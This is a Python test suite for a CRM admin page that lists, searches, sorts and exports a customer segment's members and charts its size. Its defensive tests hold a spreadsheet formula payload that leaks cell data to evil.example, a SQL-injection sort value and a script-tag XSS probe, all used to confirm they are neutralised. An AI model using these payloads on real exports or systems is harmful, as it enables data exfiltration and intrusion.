"""A segment's members in the admin: the list (paging, sorting, search, the true count), exports, size over time."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
import yaml
from sqlalchemy import select

from hub import identity, queue, sync
from hub.admin import segment_members
from hub.db import utcnow
from hub.models import AuditEntry, Contact, Segment, SegmentSize
from hub.records import ContactRecord, Deletion, OrderRecord
from hub.schedule import run_due
from hub.segments import fields, membership, sizes, store
from hub.testing import FakeClock
from tests.support.admin import AdminEnv, client_as, csrf_token, plain, post, text
from workflows.models import PromoCode

pytestmark = pytest.mark.both_databases  # paging, sorting with NULLs, LIKE and upserts differ between databases

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Нажми")'
TULA = "name: tula\ntitle: Из Тулы\nrule: {field: contact.city, op: eq, value: Тула}\n"


def add_tula(env: AdminEnv, extra: int = 60, abroad: bool = False) -> dict[str, int]:
    """Tula: the two Petrovs of the sample, `extra` more people (every third with an order), and a formula name.

    `abroad` adds one more: a Belarusian number, and a control character in the surname.
    """
    now = utcnow()
    records: list[Any] = [
        ContactRecord(source="import:tula.csv", external_id=f"t{i}", first_name=f"Имя{i:03d}",
                      last_name=f"Тульский{i:03d}", phones=[f"+7 912 000 {i // 100:02d} {i % 100:02d}"],
                      emails=[f"person{i}@tula.example"], city="Тула")
        for i in range(extra)]
    records.append(ContactRecord(source="import:tula.csv", external_id="evil", last_name=HYPERLINK,
                                 phones=["+7 912 999 88 77"], city="Тула"))
    if abroad:
        records.append(ContactRecord(source="import:tula.csv", external_id="minsk", last_name="Ким\x01",
                                     first_name="Олег", phones=["+375 44 801 66 70"], city="Тула"))
    records += [OrderRecord(source="import:tula.csv", external_id=f"o{i}", contact_external_id=f"t{i}",
                            amount=Decimal(100 * (i + 1)), status="won", closed_at=now - dt.timedelta(days=i))
                for i in range(0, extra, 3)]
    with env.engine.begin() as conn:
        sync.write_page(conn, records, env.settings, sync.Counts())
        store.add(conn, fields.build(env.settings), yaml.safe_load(TULA))
    membership.refresh(env.engine, env.settings, ["tula"])
    with env.engine.connect() as conn:
        evil = conn.execute(select(Contact.id).where(Contact.last_name == HYPERLINK)).scalar_one()
        minsk = conn.execute(select(Contact.id).where(Contact.first_name == "Олег")).scalar() or 0
        top = conn.execute(select(Contact.id).where(Contact.city == "Тула")
                           .order_by(Contact.revenue.desc(), Contact.id.desc())).first()
    return {"evil": evil, "minsk": minsk, "top": top.id if top else 0, "total": extra + 3 + abroad}


def row_ids(page: str) -> list[int]:
    return [int(n) for n in re.findall(r'<tr data-contact="(\d+)"', page)]


# --- the list ----------------------------------------------------------------------------------

def test_the_list_pages_sorts_and_counts_everyone_past_a_page(admin_env: AdminEnv) -> None:
    made = add_tula(admin_env)
    marketer = client_as(admin_env, "marketer")
    first = marketer.get("/segments/tula/members", query_string={"per": 25})
    page = plain(first)
    assert first.status_code == 200
    assert "63 контакта" in page  # the true total, not the 25 shown
    assert "1–25 из 63" in page and "страница 1 из 3" in page and len(row_ids(page)) == 25
    assert f'href="/contacts/{row_ids(page)[0]}"' in text(first)  # each member links to the card
    last = plain(marketer.get("/segments/tula/members", query_string={"per": 25, "page": 3}))
    assert "51–63 из 63" in last and len(row_ids(last)) == 13
    assert not set(row_ids(page)) & set(row_ids(last))
    everyone = set()
    for n in (1, 2, 3):
        everyone |= set(row_ids(plain(marketer.get("/segments/tula/members", query_string={"per": 25, "page": n}))))
    assert len(everyone) == 63

    by_revenue = row_ids(plain(marketer.get("/segments/tula/members", query_string={"sort": "revenue", "dir": "desc"})))
    assert by_revenue[0] == made["top"]
    by_name = plain(marketer.get("/segments/tula/members", query_string={"sort": "name", "dir": "asc", "per": 100}))
    names = re.findall(r'class="member-name"><a href="/contacts/\d+">([^<]+)</a>', by_name)
    assert names == sorted(names, key=lambda n: n.lower().replace("ё", "е")) and len(names) == 63
    orders = plain(marketer.get("/segments/tula/members", query_string={"sort": "last_order", "dir": "desc",
                                                                        "per": 100}))
    assert "Последний заказ ↓" in orders
    with admin_env.engine.connect() as conn:
        latest = conn.execute(select(Contact.id).where(Contact.city == "Тула", Contact.last_order_at.is_not(None))
                              .order_by(Contact.last_order_at.desc())).first()
    assert latest is not None and row_ids(orders)[0] == latest.id  # the latest order first
    never = [int(n) for n in re.findall(r'<tr data-contact="(\d+)">(?:(?!</tr>).)*<td>—</td>\s*</tr>', orders, re.S)]
    assert never and row_ids(orders)[-len(never):] == never  # nobody without orders before those with them


def test_search_finds_a_phone_typed_another_way_a_fragment_an_email_and_a_name(admin_env: AdminEnv) -> None:
    add_tula(admin_env, extra=5)
    marketer = client_as(admin_env, "marketer")
    petrov = admin_env.ids["petrov_1"]

    def found(q: str) -> list[int]:
        return row_ids(plain(marketer.get("/segments/tula/members", query_string={"q": q})))

    assert found("8 (495) 111-00-00") == [petrov]  # stored as +74951110000
    assert found("4951110000") == [petrov]
    assert found("111-00-00") == [petrov]  # the end of the number
    assert len(found("tula.example")) == 5 and len(found("person3@")) == 1
    assert sorted(found("петров")) == sorted([petrov, admin_env.ids["petrov_2"]])  # Пётр and Петр, any case
    assert found("Иванова") == []  # Anna is not in Tula
    nobody = plain(marketer.get("/segments/tula/members", query_string={"q": "Нетакого"}))
    assert "0 контактов" in nobody and "В этом сегменте никто не подходит" in nobody


def test_search_is_the_contacts_search_limited_to_the_members(admin_env: AdminEnv) -> None:
    """Patronymic, initials, ё/е and plugins' matches (a promo code) work as on the contacts page, members only."""
    add_tula(admin_env, extra=2)
    with admin_env.engine.begin() as conn:
        sync.write_page(conn, [  # namesakes: one in Tula, one in Moscow
            ContactRecord(source=f"import:{city}.csv", external_id="fed", first_name="Семён", last_name="Фёдоров",
                          middle_name="Алексеевич", city=title, emails=[f"semyon@{city}.example"])
            for city, title in (("tula", "Тула"), ("msk", "Москва"))], admin_env.settings, sync.Counts())
        ids = dict(conn.execute(select(Contact.city, Contact.id).where(Contact.last_name == "Фёдоров")).all())
        now = utcnow()
        for code, city in (("TULA-7KX3QZ", "Тула"), ("MSK-9PQ2RT", "Москва")):
            conn.execute(PromoCode.__table__.insert().values(
                code=code, prefix=code.split("-")[0], discount=Decimal("15"), contact_id=ids[city], created_at=now,
                expires_at=now + dt.timedelta(days=14)))
    membership.refresh(admin_env.engine, admin_env.settings, ["tula"])
    marketer = client_as(admin_env, "marketer")

    def found(q: str) -> tuple[list[int], str]:
        page = plain(marketer.get("/segments/tula/members", query_string={"q": q}))
        return row_ids(page), page

    for typed in ("Семён Алексеевич", "Алексеевич Федоров", "федоров с.а.", "Фёдоров С. А.", "семен",
                  "TULA-7KX3QZ", "tula-7kx"):
        listed, page = found(typed)
        assert listed == [ids["Тула"]], typed
        assert "1 контакт" in page, typed  # the true count of the matches
    assert found("MSK-9PQ2RT")[0] == []  # the Moscow namesake's code: not a member
    assert found(f"#{ids['Москва']}")[0] == []
    assert found("#" + "9" * 12)[0] == []  # past any id: nobody, on PostgreSQL too
    body = marketer.get("/segments/tula/members/export", query_string={"format": "csv", "q": "Семён Алексеевич"})
    assert len(body.get_data(as_text=True).strip().splitlines()) == 2  # the export finds the same people


def test_hostile_query_strings_get_a_russian_answer_not_an_error(admin_env: AdminEnv) -> None:
    add_tula(admin_env, extra=3)
    marketer = client_as(admin_env, "marketer")
    for args, says in [({"page": "-1"}, "Номер страницы должен быть целым числом от 1, а не «-1»"),
                       ({"sort": "name; DROP TABLE contacts"}, "Нельзя сортировать по «name; DROP TABLE contacts»"),
                       ({"dir": "sideways"}, "Направления сортировки «sideways» нет"),
                       ({"per": "100000"}, "На странице можно показать 25, 50, 100, 200 контактов, но не 100\xa0000"),
                       ({"page": "99"}, "Страницы 99 нет"),
                       ({"page": "9" * 40}, "Номер страницы должен быть целым числом"),
                       ({"page": "²"}, "а не «²»"),
                       ({"per": "0"}, "а не «0»"),
                       ({"q": "x" * 5000}, "а в нём 5\xa0000"),
                       ({"q": "Петров\x00"}, "2 контакта")]:  # a NUL (PostgreSQL refuses it) reads as a space
        answer = marketer.get("/segments/tula/members", query_string=args)
        assert answer.status_code == 200, args
        assert says in plain(answer), (args, re.findall(r'class="error"[^>]*>([^<]+)', plain(answer)))
    with admin_env.engine.connect() as conn:
        assert conn.execute(select(Contact.id)).first() is not None  # still there
    markup = text(marketer.get("/segments/tula/members", query_string={"q": "<script>alert(1)</script>"}))
    assert "<script>alert(1)" not in markup and "&lt;script&gt;alert(1)" in markup
    missing = marketer.get("/segments/no_such_segment/members")
    assert missing.status_code == 404 and "Нет сегмента «no_such_segment»" in plain(missing)
    assert marketer.get("/segments/" + "x" * 5000 + "/members").status_code == 404
    odd = marketer.get("/segments/tula/members/export", query_string={"format": "pdf"}, follow_redirects=True)
    assert "CSV или XLSX, а не «pdf»" in plain(odd)


def test_members_of_a_builtin_segment_never_refreshed(admin_env: AdminEnv) -> None:
    page = plain(client_as(admin_env, "viewer").get("/segments/dormant_90d/members"))
    assert "Участники сегмента подсчитываются" in page and "0 контактов" not in page
    assert "Обновить сейчас" not in page and "Выгрузить CSV" not in page
    marketer = plain(client_as(admin_env, "marketer").get("/segments/dormant_90d/members"))
    assert "Обновить сейчас" in marketer and 'id="export-csv"' not in marketer  # no empty files


def test_a_saved_segment_lists_its_members_at_once(admin_env: AdminEnv) -> None:
    add_tula(admin_env, extra=2)
    marketer = client_as(admin_env, "marketer")
    saved = post(marketer, "/segments/save", {"document": "name: tula_people\ntitle: Туляки\n"
                                                          "rule: {field: contact.city, op: eq, value: Тула}\n"},
                 token_from="/segments/new")
    assert saved.status_code == 302, plain(saved)
    page = plain(marketer.get("/segments/tula_people/members"))
    assert "5 контактов" in page and "подсчитываются" not in page
    assert len(row_ids(page)) == 5 and 'id="export-csv"' in page
    with admin_env.engine.connect() as conn:
        refreshed = conn.execute(select(Segment.refreshed_at).where(Segment.name == "tula_people")).scalar_one()
    assert refreshed is not None


def test_a_segment_saved_but_not_yet_counted_offers_no_empty_export(admin_env: AdminEnv) -> None:
    with admin_env.engine.begin() as conn:
        store.add(conn, fields.build(admin_env.settings), yaml.safe_load(TULA))  # saved, its refresh not run yet
    marketer = client_as(admin_env, "marketer")
    page = plain(marketer.get("/segments/tula/members"))
    assert "Подсчитываем участников" in page and "0 контактов" not in page and 'id="export-csv"' not in page
    refused = marketer.get("/segments/tula/members/export", query_string={"format": "csv"}, follow_redirects=True)
    assert "ещё подсчитываются: выгружать пока нечего" in plain(refused)
    with admin_env.engine.connect() as conn:
        assert not conn.execute(select(AuditEntry.id).where(AuditEntry.action == segment_members.EXPORTED)).first()


# --- exports -----------------------------------------------------------------------------------

def test_csv_export_is_formula_safe_with_both_phone_forms_and_audited(admin_env: AdminEnv) -> None:
    made = add_tula(admin_env, extra=3, abroad=True)
    marketer = client_as(admin_env, "marketer")
    answer = marketer.get("/segments/tula/members/export", query_string={"format": "csv"})
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    assert "attachment" in answer.headers["Content-Disposition"] and ".csv" in answer.headers["Content-Disposition"]
    body = answer.get_data(as_text=True)
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
    assert rows[0][:5] == ["Номер контакта", "Имя", "Телефон (E.164)", "Телефон", "Email"]
    assert len(rows) == 1 + 7
    evil = next(r for r in rows if r[0] == str(made["evil"]))
    assert evil[1] == "'" + HYPERLINK  # inert: a leading quote, shown as text
    assert evil[2] == "+79129998877" and evil[3] == "8 (912) 999-88-77"
    minsk = next(r for r in rows if r[0] == str(made["minsk"]))
    assert minsk[3] == "(+375) 44 801-66-70"  # a foreign number starts with no formula character: no apostrophe
    petrov = next(r for r in rows if r[0] == str(admin_env.ids["petrov_1"]))
    assert petrov[2] == "+74951110000" and petrov[3] == "8 (495) 111-00-00" and petrov[5] == "Тула"
    english = marketer.get("/segments/tula/members/export", query_string={"format": "csv", "lang": "en"})
    assert english.get_data(as_text=True).lstrip("\ufeff").startswith('"Contact number";"Name";"Phone (E.164)"')
    only = marketer.get("/segments/tula/members/export", query_string={"format": "csv", "q": "петров"})
    assert len(list(csv.reader(io.StringIO(only.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))) == 3
    with admin_env.engine.connect() as conn:
        entries = conn.execute(select(AuditEntry.actor, AuditEntry.details).where(
            AuditEntry.action == segment_members.EXPORTED).order_by(AuditEntry.id)).all()
    assert [(e.actor, e.details["segment"], e.details["format"], e.details["rows"]) for e in entries] == [
        ("admin:marketer@shop.example", "tula", "csv", 7), ("admin:marketer@shop.example", "tula", "csv", 7),
        ("admin:marketer@shop.example", "tula", "csv", 2)]


def test_xlsx_export_writes_formulas_as_text_numbers_as_numbers(admin_env: AdminEnv) -> None:
    made = add_tula(admin_env, extra=3, abroad=True)
    with admin_env.engine.begin() as conn:  # imports clean names; one written some other way may hold anything
        conn.execute(Contact.__table__.update().where(Contact.id == made["minsk"]).values(last_name="Ким\x01"))
    answer = client_as(admin_env, "admin").get("/segments/tula/members/export", query_string={"format": "xlsx"})
    assert answer.status_code == 200 and "spreadsheetml" in (answer.mimetype or "")
    book = openpyxl.load_workbook(io.BytesIO(answer.get_data()))
    sheet = book.worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("Номер контакта", "Имя", "Телефон (E.164)", "Телефон") and len(rows) == 8
    evil_row = next(r for r in sheet.iter_rows() if r[0].value == made["evil"])
    # Typed as text, the formula is inert with no apostrophe shown; a phone reads as written, "+" and all.
    assert evil_row[1].data_type == "s" and evil_row[1].value == HYPERLINK
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)  # no formula anywhere
    assert not any(isinstance(c.value, str) and c.value.startswith("'") for r in sheet.iter_rows() for c in r)
    assert evil_row[2].value == "+79129998877" and evil_row[2].data_type == "s"  # a phone stays text
    assert evil_row[3].value == "8 (912) 999-88-77"
    minsk = next(r for r in sheet.iter_rows() if r[0].value == made["minsk"])
    assert minsk[3].value == "+375 44 801-66-70" and minsk[1].value == "Ким Олег"  # the control character dropped
    widths = {key: sheet.column_dimensions[letter].width for key, letter in (("name", "B"), ("email", "E"))}
    assert widths["name"] >= 30 and widths["email"] >= 30  # names and emails are not cut when the file opens
    top = next(r for r in rows[1:] if r[7])
    assert isinstance(top[7], int) and isinstance(top[9], dt.datetime)
    with admin_env.engine.connect() as conn:
        entry = conn.execute(select(AuditEntry.actor, AuditEntry.details).where(
            AuditEntry.action == segment_members.EXPORTED)).one()
    assert entry.actor == "admin:admin@shop.example" and entry.details["format"] == "xlsx"
    assert entry.details["rows"] == 7


def test_a_viewer_sees_the_members_but_cannot_export_or_refresh(admin_env: AdminEnv) -> None:
    add_tula(admin_env, extra=2)
    viewer = client_as(admin_env, "viewer")
    page = plain(viewer.get("/segments/tula/members"))
    assert "5 контактов" in page
    assert 'id="export-csv"' not in page and "Обновить сейчас" not in page
    for fmt in ("csv", "xlsx"):
        refused = viewer.get("/segments/tula/members/export", query_string={"format": fmt})
        assert refused.status_code == 403 and "Ваша роль этого не позволяет" in text(refused)
    assert post(viewer, "/segments/tula/members/refresh", token_from="/segments/").status_code == 403
    with admin_env.engine.connect() as conn:
        assert not conn.execute(select(AuditEntry.id).where(AuditEntry.action == segment_members.EXPORTED)).first()
    marketer = plain(client_as(admin_env, "marketer").get("/segments/tula/members"))
    assert 'id="export-csv"' in marketer and "Обновить сейчас" in marketer
    listing = text(viewer.get("/segments/"))
    assert 'href="/segments/tula/members"' in listing  # the list's count opens the members


def test_refresh_now_records_the_members_and_is_audited(admin_env: AdminEnv) -> None:
    add_tula(admin_env, extra=1)
    with admin_env.engine.begin() as conn:
        sync.write_page(conn, [ContactRecord(source="import:late.csv", external_id="late", first_name="Поздний",
                                             last_name="Туляк", city="Тула")], admin_env.settings, sync.Counts())
    marketer = client_as(admin_env, "marketer")
    assert "4 контакта" in plain(marketer.get("/segments/tula/members"))
    done = post(marketer, "/segments/tula/members/refresh", token_from="/segments/tula/members")
    assert done.status_code == 302 and done.location.endswith("/segments/tula/members")
    queue.drain(timeout=60)
    assert "5 контактов" in plain(marketer.get("/segments/tula/members"))
    with admin_env.engine.connect() as conn:
        assert conn.execute(select(AuditEntry.details).where(
            AuditEntry.action == "segment_refresh_requested")).scalar_one() == {"segment": "tula"}
    assert post(marketer, "/segments/nosuch/members/refresh", token_from="/segments/").status_code == 404


# --- size over time ----------------------------------------------------------------------------

def points(env: AdminEnv, name: str) -> list[tuple[dt.date, int]]:
    with env.engine.connect() as conn:
        segment_id = conn.execute(select(Segment.id).where(Segment.name == name)).scalar_one()
        return sizes.history(conn, segment_id)


def test_every_refresh_keeps_the_days_size_the_last_of_a_day_wins_and_a_day_without_is_a_gap(
        admin_env: AdminEnv, hub_clock: FakeClock) -> None:
    env = admin_env
    hub_clock.set(dt.datetime(2026, 12, 1, 20, 30, tzinfo=dt.timezone.utc))  # 23:30 on the 1st in Moscow
    add_tula(env, extra=2)
    assert points(env, "tula") == [(dt.date(2026, 12, 1), 5)]
    hub_clock.advance(hours=1)  # 00:30 on the 2nd in Moscow, still the 1st in UTC
    membership.refresh(env.engine, env.settings, ["tula"])
    assert points(env, "tula") == [(dt.date(2026, 12, 1), 5), (dt.date(2026, 12, 2), 5)]

    hub_clock.set(dt.datetime(2026, 12, 4, 7, 0, tzinfo=dt.timezone.utc))  # nothing on the 3rd
    with env.engine.begin() as conn:
        sync.write_page(conn, [ContactRecord(source="import:late.csv", external_id="late", first_name="Поздний",
                                             last_name="Туляк", city="Тула")], env.settings, sync.Counts())
    membership.refresh(env.engine, env.settings, ["tula"])
    with env.engine.begin() as conn:
        sync.write_page(conn, [ContactRecord(source="import:late.csv", external_id="late2", first_name="Ещё",
                                             last_name="Туляк", city="Тула")], env.settings, sync.Counts())
    hub_clock.advance(hours=2)
    membership.refresh(env.engine, env.settings, ["tula"])  # the later refresh of the 4th wins
    assert points(env, "tula") == [(dt.date(2026, 12, 1), 5), (dt.date(2026, 12, 2), 5), (dt.date(2026, 12, 4), 7)]

    page = text(client_as(env, "viewer").get("/segments/tula/members"))
    assert 'data-chart="line"' in page
    chart = json.loads(re.search(r'<script type="application/json" id="size-chart-data">(.*?)</script>', page,
                                 re.S).group(1))  # type: ignore[union-attr]
    assert chart["values"] == [5, 5, None, 7]  # the 3rd is a gap, not a zero
    assert chart["labels"][0] == "01.12.2026" and len(chart["labels"]) == 4
    days, values = sizes.series(points(env, "tula"), dt.date(2026, 12, 6))
    assert days[-1] == dt.date(2026, 12, 6) and values[-2:] == [None, None]


def test_the_scheduler_keeps_a_point_a_day_where_nothing_else_refreshes(
        admin_env: AdminEnv, hub_clock: FakeClock) -> None:
    env = admin_env
    hub_clock.set(dt.datetime(2026, 12, 1, 9, 0, tzinfo=dt.timezone.utc))
    add_tula(env, extra=1)  # refreshed (and measured) on the 1st
    hub_clock.set(dt.datetime(2026, 12, 2, 9, 0, tzinfo=dt.timezone.utc))
    ran = run_due(env.engine, env.settings, now=utcnow(), only=["segment_sizes"]).ran["segment_sizes"]
    assert ran == {"segment_sizes": "started"}
    queue.drain(timeout=60)
    assert points(env, "tula") == [(dt.date(2026, 12, 1), 4), (dt.date(2026, 12, 2), 4)]
    with env.engine.connect() as conn:
        measured = {r.segment_id for r in conn.execute(select(SegmentSize.segment_id)
                                                       .where(SegmentSize.day == dt.date(2026, 12, 2)))}
        every = set(conn.execute(select(Segment.id)).scalars())
    assert measured == every and len(every) > 1  # built-in segments were refreshed for the day too
    again = run_due(env.engine, env.settings, now=utcnow(), only=["segment_sizes"]).ran["segment_sizes"]
    assert again == {}  # every segment has today's point: nothing to do


def test_keep_today_measures_what_is_current_and_refreshes_what_may_not_be(
        admin_env: AdminEnv, hub_clock: FakeClock) -> None:
    env = admin_env
    hub_clock.set(dt.datetime(2026, 12, 1, 9, 0, tzinfo=dt.timezone.utc))
    add_tula(env, extra=1)
    hub_clock.set(dt.datetime(2026, 12, 2, 9, 0, tzinfo=dt.timezone.utc))
    with env.engine.begin() as conn:
        sync.write_page(conn, [ContactRecord(source="import:late.csv", external_id="late", first_name="Поздний",
                                             last_name="Туляк", city="Тула")], env.settings, sync.Counts())
    report = sizes.keep_today(env.engine, env.settings)
    assert report["refreshed"] >= 1
    assert points(env, "tula")[-1] == (dt.date(2026, 12, 2), 5)  # the new person counted: refreshed, not copied
    assert sizes.keep_today(env.engine, env.settings) == {"refreshed": 0, "measured": 0}


def test_the_page_and_its_messages_in_english_for_a_reader_who_chose_it(admin_env: AdminEnv) -> None:
    add_tula(admin_env, extra=1)
    marketer = client_as(admin_env, "marketer")
    marketer.post("/language", data={"csrf_token": csrf_token(marketer, "/"), "language": "en",
                                     "next": "/segments/tula/members"})
    page = plain(marketer.get("/segments/tula/members", query_string={"sort": "bogus"}))
    assert "4 contacts" in page and "Size over time" in page and "Export CSV" in page
    assert "Cannot sort by 'bogus'; the list is sorted by name." in page
    assert "Участники" not in page and "Выгрузить" not in page
    missing = marketer.get("/segments/nosuch/members")
    assert missing.status_code == 404 and "There is no segment named 'nosuch'." in plain(missing)
    english = marketer.get("/segments/tula/members/export", query_string={"format": "csv"})
    assert english.get_data(as_text=True).lstrip("\ufeff").startswith('"Contact number"')  # the reader's language
    russian = marketer.get("/segments/tula/members/export", query_string={"format": "csv", "lang": "ru"})
    assert russian.get_data(as_text=True).lstrip("\ufeff").startswith('"Номер контакта"')
    odd = marketer.get("/segments/tula/members/export", query_string={"format": "csv", "lang": "de"},
                       follow_redirects=True)
    assert "The headings can be in ru, en, not 'de'." in plain(odd)


def test_people_erased_or_merged_away_since_the_refresh_are_not_listed_or_exported(admin_env: AdminEnv) -> None:
    add_tula(admin_env, extra=2)
    gone = admin_env.ids["petrov_2"]
    with admin_env.engine.begin() as conn:
        conn.execute(Contact.__table__.update().where(Contact.__table__.c.id == gone).values(deleted_at=utcnow()))
    marketer = client_as(admin_env, "marketer")
    page = plain(marketer.get("/segments/tula/members"))
    assert "4 контакта" in page and gone not in row_ids(page)
    assert row_ids(plain(marketer.get("/segments/tula/members", query_string={"q": f"#{gone}"}))) == []
    body = marketer.get("/segments/tula/members/export", query_string={"format": "csv"}).get_data(as_text=True)
    assert f'"{gone}"' not in body and len(body.strip().splitlines()) == 5


def list_total(env: AdminEnv, name: str) -> int:
    page = plain(client_as(env, "viewer").get(f"/segments/{name}/members"))
    found = re.search(r"(\d[\d\xa0 ]*) контакт", page)
    assert found is not None, page[:300]
    return int(re.sub(r"\D", "", found.group(1)))


def test_the_size_chart_counts_whom_the_list_counts_after_a_deletion_or_a_merge(
        admin_env: AdminEnv, hub_clock: FakeClock) -> None:
    env = admin_env
    hub_clock.set(dt.datetime(2027, 1, 10, 9, 0, tzinfo=dt.timezone.utc))  # after the sample people were written
    add_tula(env, extra=4)
    for hour in (10, 11):  # the second refresh re-reads nobody: every change is well before it
        hub_clock.set(dt.datetime(2027, 1, 10, hour, 0, tzinfo=dt.timezone.utc))
        membership.refresh(env.engine, env.settings, ["tula"])
    assert points(env, "tula") == [(dt.date(2027, 1, 10), 7)] and list_total(env, "tula") == 7
    # The source deleted t0, its only record, in a long sync that wrote it at 09:30 and committed after the 11:00
    # refresh: t0 is nobody now, though its contact row (and its row in segment_members) stays.
    hub_clock.set(dt.datetime(2027, 1, 10, 9, 30, tzinfo=dt.timezone.utc))
    with env.engine.begin() as conn:
        sync.write_page(conn, [Deletion(source="import:tula.csv", entity="contact", external_id="t0")], env.settings,
                        sync.Counts())
    assert list_total(env, "tula") == 6
    hub_clock.set(dt.datetime(2027, 1, 11, 9, 0, tzinfo=dt.timezone.utc))
    assert sizes.keep_today(env.engine, env.settings)["measured"] >= 1  # nothing changed that a refresh would see
    assert points(env, "tula")[-1] == (dt.date(2027, 1, 11), 6)
    hub_clock.advance(hours=1)
    report = membership.refresh(env.engine, env.settings, ["tula"]).segments[0]
    assert (report.mode, report.members, report.exited) == ("incremental", 6, 1)  # t0 leaves, plugins are told
    assert points(env, "tula")[-1] == (dt.date(2027, 1, 11), 6) and list_total(env, "tula") == 6
    with env.engine.connect() as conn:
        tula = conn.execute(select(Segment.id).where(Segment.name == "tula")).scalar_one()
        t1, t2 = conn.execute(select(Contact.id).where(Contact.first_name.in_(["Имя001", "Имя002"]))
                              .order_by(Contact.first_name)).scalars()
    with env.engine.begin() as conn:
        identity.merge_contacts(conn, t1, t2, reason={"rule": "merged by hand"}, settings=env.settings)
    with env.engine.connect() as conn:
        assert sizes.live_count(conn, tula) == list_total(env, "tula") == 5  # before any refresh
    hub_clock.set(dt.datetime(2027, 1, 12, 9, 0, tzinfo=dt.timezone.utc))
    sizes.keep_today(env.engine, env.settings)
    assert points(env, "tula")[-1] == (dt.date(2027, 1, 12), 5) and list_total(env, "tula") == 5
